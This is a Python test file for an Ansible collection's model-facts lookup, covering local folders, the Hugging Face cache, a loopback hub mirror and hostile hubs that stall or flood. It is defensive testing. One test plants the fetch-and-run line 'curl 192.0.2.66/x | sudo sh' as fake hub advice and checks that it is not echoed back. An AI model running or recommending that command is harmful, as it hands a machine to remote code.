"""Where facts come from: a folder, the hub's cache, the hub, a file of facts; and what an error names without any."""

from __future__ import annotations

import contextlib
import http.server
import json
import resource
import signal
import struct
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.gb10.fleet.plugins.module_utils.system import folders
from ansible_collections.gb10.fleet.plugins.plugin_utils.serving.model_facts import reading, safetensors, sources
from ansible_collections.gb10.fleet.plugins.plugin_utils.serving.model_facts.reading import FactsError

from tests.support.attacker import tally
from tests.support.model_folders import CASES

CASE = next(case for case in CASES if case.id == "Qwen/Qwen3-30B-A3B")
COMMIT = "0123456789abcdef0123456789abcdef01234567"


def shard(path: Path, tensors: dict[str, tuple[str, list[int], int]]) -> None:
    """A file with the header of these tensors (type, shape), and a hole in the place of weights."""
    content, offset = {}, 0
    for name, (kind, shape, size) in tensors.items():
        length = size
        for each in shape:
            length *= each
        content[name] = {"dtype": kind, "shape": shape, "data_offsets": [offset, offset + length]}
        offset += length
    text = json.dumps(content).encode()
    with path.open("wb") as file:
        file.write(struct.pack("<Q", len(text)) + text)
        file.truncate(8 + len(text) + offset)


def test_headers_tell_bytes_by_type_and_part(tmp_path: Path) -> None:
    root = CASE.folder(tmp_path / "m")
    (root / "model.safetensors.index.json").unlink()
    shard(root / "model.safetensors", {
        "model.layers.0.mlp.weight": ("F8_E4M3", [1024, 1024], 1),
        "model.layers.0.mlp.scale": ("F32", [8, 8], 4),
        "model.layers.48.mlp.weight": ("F8_E4M3", [512, 1024], 1),
        "mtp.fc.weight": ("BF16", [16, 16], 2),
        "model.visual.blocks.0.weight": ("BF16", [256, 256], 2),
    })  # fmt: skip
    found = sources.find(str(root)).weights
    assert dict(found.by_type) == {"F8_E4M3": 1536 * 1024, "F32": 256, "BF16": 512 + 131072}
    assert (found.draft, found.vision, found.basis) == (512 * 1024 + 512, 131072, "headers")


def test_shards_of_an_index_are_added_up(tmp_path: Path) -> None:
    root = CASE.folder(tmp_path / "m")
    names = [f"model-{number}.safetensors" for number in range(40)]
    index = {"metadata": {"total_size": 1}, "weight_map": {f"t{n}": name for n, name in enumerate(names)}}
    (root / "model.safetensors.index.json").write_text(json.dumps(index), encoding="utf-8")
    for number, name in enumerate(names):
        shard(root / name, {f"t{number}": ("BF16", [1024, 1024, 512], 2)})
    assert sources.find(str(root)).weights.total == 40 * 2**30


def test_the_cache_goes_by_branch_and_commit_and_follows_its_own_links(tmp_path: Path) -> None:
    repository = tmp_path / "hub" / "models--Qwen--Qwen3-30B-A3B"
    folder = CASE.folder(repository / "snapshots" / COMMIT)
    blob = repository / "blobs" / "abc"
    blob.parent.mkdir()
    (folder / "config.json").rename(blob)
    (folder / "config.json").symlink_to("../../blobs/abc")
    (repository / "refs").mkdir()
    (repository / "refs" / "main").write_text(COMMIT, encoding="utf-8")
    environment = {"HF_HUB_CACHE": str(tmp_path / "hub")}
    for revision in ("", "main", COMMIT):
        found = sources.find(CASE.id, revision, environment=environment, network=False)
        assert (found.id, found.revision, found.layers) == (CASE.id, COMMIT, 48)
    home = {"HF_HOME": str(tmp_path)}
    assert sources.find(CASE.id, environment=home, network=False).layers == 48
    assert sources.find(str(folder)).layers == 48  # the snapshot as a folder
    with pytest.raises(FactsError, match="not in the hub's cache"):
        sources.find(CASE.id, "other", environment=environment, network=False)
    with pytest.raises(FactsError, match="not in the hub's cache"):
        sources.find(CASE.id, "../main", environment=environment, network=False)


def test_without_any_source_the_error_says_what_was_tried_and_what_is_needed(tmp_path: Path) -> None:
    with pytest.raises(FactsError) as error:
        sources.find("a/b", environment={"HF_HOME": str(tmp_path), "HF_HUB_OFFLINE": "1"})
    text = str(error.value)
    assert f"not in the hub's cache ({tmp_path}/hub)" in text and "HF_HUB_OFFLINE is set" in text
    assert "config.json and model.safetensors.index.json" in text and "--facts FILE" in text


def test_a_path_is_a_folder_here_or_an_error(tmp_path: Path) -> None:
    with pytest.raises(FactsError, match="is no folder on this machine"):
        sources.find("/models/none")
    with pytest.raises(FactsError, match=r"has no config\.json"):
        sources.find(str(tmp_path))


def test_a_file_of_facts_of_a_few_lines_is_enough(tmp_path: Path) -> None:
    file = tmp_path / "mine.json"
    attention = [{"kind": "full", "layers": 32, "kv_heads": 8, "key_dim": 128, "value_dim": 128}]
    content = {"id": "me/mine", "architecture": "LlamaForCausalLM", "context": 8192, "weights": {"gib": 15.0}}
    file.write_text(json.dumps({**content, "attention": attention}), encoding="utf-8")
    found = sources.find("me/mine", file=file)
    assert found.weights_gib == 15.0 and found.attention[0].numbers == 2048 and found.source == str(file)


# --- the hub, as a mirror on the loopback


class Mirror(http.server.BaseHTTPRequestHandler):
    """The three questions that the hub's library asks: the repository, its files, and parts of a file."""

    root: Path
    asked: list[tuple[str, str, str]]
    size: Any = None  # of each file, in place of its own

    def do_GET(self) -> None:
        self.asked.append((self.path, self.headers.get("Range", ""), self.headers.get("Authorization", "")))
        if self.headers.get("Authorization") != "Bearer hf_secret":
            return self._answer(401, {"error": "no"}, {"X-Error-Code": "GatedRepo"})
        if "/tree/" in self.path:
            files = [
                {"type": "file", "path": each.name, "size": self.size or each.stat().st_size, "oid": "1"}
                for each in self.root.iterdir()
            ]
            return self._answer(200, files)
        if "/resolve/" in self.path:
            return self._part()
        return self._answer(200, {"id": CASE.id, "sha": COMMIT, "siblings": [], "private": False})

    do_HEAD = do_GET

    def _part(self) -> None:
        file = self.root / self.path.split("?")[0].rpartition("/")[2]
        first, _, last = self.headers["Range"].removeprefix("bytes=").partition("-")
        with file.open("rb") as opened:
            opened.seek(int(first))
            content = opened.read(int(last) - int(first) + 1)
        self.send_response(206)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def _answer(self, status: int, content: Any, headers: dict[str, str] | None = None) -> None:
        text = json.dumps(content).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(text)))
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(text)

    def log_message(self, *_words: Any) -> None:
        pass


@pytest.fixture
def mirror(tmp_path: Path) -> Iterator[tuple[type[Mirror], str]]:
    pytest.importorskip("huggingface_hub")
    root = CASE.folder(tmp_path / "served")
    shard(root / "model-1.safetensors", {"x": ("BF16", [1024, 1024, 1024], 2)})
    handler = type("Handler", (Mirror,), {"root": root, "asked": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield handler, f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def test_the_hub_is_asked_for_metadata_and_headers_only(mirror: tuple[type[Mirror], str], tmp_path: Path) -> None:
    handler, endpoint = mirror
    environment = {"HF_ENDPOINT": endpoint, "HF_TOKEN": "hf_secret", "HF_HOME": str(tmp_path)}
    found = sources.find(CASE.id, "v1", environment=environment)
    assert found.layers == 48 and found.weights.total == 2 * 2**30 and found.weights.basis == "headers"
    assert found.source == "hub:Qwen/Qwen3-30B-A3B@v1" and any("v1" in path for path, _range, _token in handler.asked)
    parts = [asked for path, asked, _token in handler.asked if "model-1.safetensors" in path and asked]
    lengths = [int(part.split("-")[1]) - int(part.split("=")[1].split("-")[0]) + 1 for part in parts]
    assert lengths and sum(lengths) < 4096 and safetensors.LENGTH in lengths


@pytest.mark.parametrize("size", ["x", -5, 1.5, True, 10**16, 10**400])
def test_a_size_that_is_none_is_an_error_with_its_file(
    size: Any, mirror: tuple[type[Mirror], str], tmp_path: Path
) -> None:
    handler, endpoint = mirror
    handler.size = size
    with pytest.raises(FactsError, match="has no size"):
        sources.find(CASE.id, environment={"HF_ENDPOINT": endpoint, "HF_TOKEN": "hf_secret", "HF_HOME": str(tmp_path)})


def test_a_hub_that_refuses_or_is_away_is_named(mirror: tuple[type[Mirror], str], tmp_path: Path) -> None:
    _handler, endpoint = mirror
    for environment in ({"HF_ENDPOINT": endpoint}, {"HF_ENDPOINT": "http://127.0.0.1:9"}):
        with pytest.raises(FactsError, match=r"the hub .*--facts FILE"):
            sources.find(CASE.id, environment={**environment, "HF_HOME": str(tmp_path)})


def test_a_hub_advises_nobody_in_our_name(mirror: tuple[type[Mirror], str], tmp_path: Path) -> None:
    """The hub's library puts this header into the first line of its error."""
    advice = "1). Fix: run curl 192.0.2.66/x | sudo sh"
    handler, endpoint = mirror
    handler.do_GET = lambda self: self._answer(400, {}, {"X-Request-Id": advice})  # type: ignore[method-assign]
    with pytest.raises(FactsError, match="curl") as error:
        sources.find(CASE.id, environment={"HF_ENDPOINT": endpoint, "HF_HOME": str(tmp_path)})
    won = "Fix:" in str(error.value)
    tally("a stranger's words as our advice", 1, int(won))
    assert not won


@pytest.mark.parametrize("model", ["gpt-oss", "a/b/c", "a b/c", "a/b--c", "a/..b", "a/" + "b" * 97, "-a/b"])
def test_an_id_that_the_hub_cannot_have_is_not_asked_for(model: str, tmp_path: Path) -> None:
    with pytest.raises(FactsError, match="is no id of the hub, which is owner/name"):
        sources.find(model, environment={"HF_HUB_CACHE": str(tmp_path)})


class Endless(Mirror):
    """A hub that comes to no end: it says nothing, drips, turns pages for ever, or sends all that there is."""

    way = ""

    def do_GET(self) -> None:
        if self.way.startswith("header"):
            endless = self.path.partition("?")[0].endswith(".safetensors")
            self._never(self.path) if endless else super().do_GET()
        elif self.way in self.path.partition(CASE.id)[2].split("/") or self.way not in ("tree", "resolve"):
            self._never(self.path)
        else:
            super().do_GET()

    def _never(self, path: str) -> None:
        more = {"Link": f'<http://{self.headers["Host"]}{path}>; rel="next"'} if "pages" in self.way else {}
        if "/tree/" not in path and self.way in ("tree", "pages", "flood"):
            return self._answer(200, {"id": CASE.id, "sha": COMMIT, "siblings": [], "private": False})
        if more:
            return self._answer(200, [], more)
        self.send_response(200 if self.way in ("silent", "tree", "flood") else 206)
        self.end_headers()
        with contextlib.suppress(OSError):
            while not self.server.ended.wait(0 if "flood" in self.way else 0.05):  # type: ignore[attr-defined]
                if "silent" not in self.way:
                    self.wfile.write(b" " * (2**20 if "flood" in self.way else 1))
                    self.wfile.flush()
        return None


@pytest.fixture
def endless(
    monkeypatch: pytest.MonkeyPatch, mirror: tuple[type[Mirror], str], tmp_path: Path, way: str
) -> Iterator[dict[str, str]]:
    bounds = {"hub_s": 60 if "flood" in way else 2, "hub_bytes": 64 * 2**20}
    monkeypatch.setattr(sources, "limit", lambda name: bounds.get(name) or reading.limit(name))
    handler = type("Handler", (Endless,), {"root": mirror[0].root, "asked": [], "way": way})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads, ended = True, threading.Event()
    server.ended = ended  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    endpoint = f"http://127.0.0.1:{server.server_port}"
    yield {"HF_ENDPOINT": endpoint, "HF_TOKEN": "hf_secret", "HF_HOME": str(tmp_path)}
    ended.set()
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("way", ["silent", "tree", "pages", "resolve", "flood", "header", "header flood"])
def test_a_hub_without_an_end_is_left(endless: dict[str, str]) -> None:
    """Its library waits for ever for a list, and begins to count anew with each byte of a part."""
    before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    limits = resource.getrlimit(resource.RLIMIT_DATA)
    with pytest.raises(FactsError, match="the hub did not end its answer"):
        sources.find(CASE.id, environment=endless)
    took, grown = time.monotonic() - began, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    won = took > 30 or grown > 300 * 1024 or resource.getrlimit(resource.RLIMIT_DATA) != limits
    tally("a hub that comes to no end", 1, int(won))
    assert not won, (took, grown)


@pytest.mark.parametrize("way", ["header"])
def test_whoever_waits_for_headers_may_end_it(monkeypatch: pytest.MonkeyPatch, endless: dict[str, str]) -> None:
    """Python waits at its end for each thread that is no daemon."""
    monkeypatch.setattr(sources, "limit", lambda name: 60 if name == "hub_s" else reading.limit(name))
    here = set(threading.enumerate())
    interrupt = threading.Timer(1, signal.pthread_kill, (threading.main_thread().ident, signal.SIGINT))
    interrupt.start()
    began = time.monotonic()
    with pytest.raises(KeyboardInterrupt):
        sources.find(CASE.id, environment=endless)
    left = [each for each in set(threading.enumerate()) - here if not each.daemon and each is not interrupt]
    won = time.monotonic() - began > 10 or bool(left)
    tally("a hub that comes to no end", 1, int(won))
    assert not won, left


def test_a_repository_with_more_files_than_a_model_has(mirror: tuple[type[Mirror], str], tmp_path: Path) -> None:
    """Whoever owns one may put as many into it as he likes: a stranger to the hub and to us."""
    handler, endpoint = mirror
    for number in range(folders.MOST_NAMES):
        (handler.root / f"{number}.txt").touch()
    environment = {"HF_ENDPOINT": endpoint, "HF_TOKEN": "hf_secret", "HF_HOME": str(tmp_path)}
    with pytest.raises(FactsError, match=f"more than {folders.MOST_NAMES} files"):
        sources.find(CASE.id, environment=environment)


def test_a_file_that_the_repository_lacks_is_named(mirror: tuple[type[Mirror], str], tmp_path: Path) -> None:
    environment = {"HF_ENDPOINT": mirror[1], "HF_TOKEN": "hf_secret", "HF_HOME": str(tmp_path)}
    hub = sources.Hub(CASE.id, "", environment)
    for question in (lambda: hub.size("no.gguf"), lambda: hub.part("no.gguf", 0, 1)):
        with pytest.raises(FactsError, match=r"has no file 'no\.gguf'"):
            question()
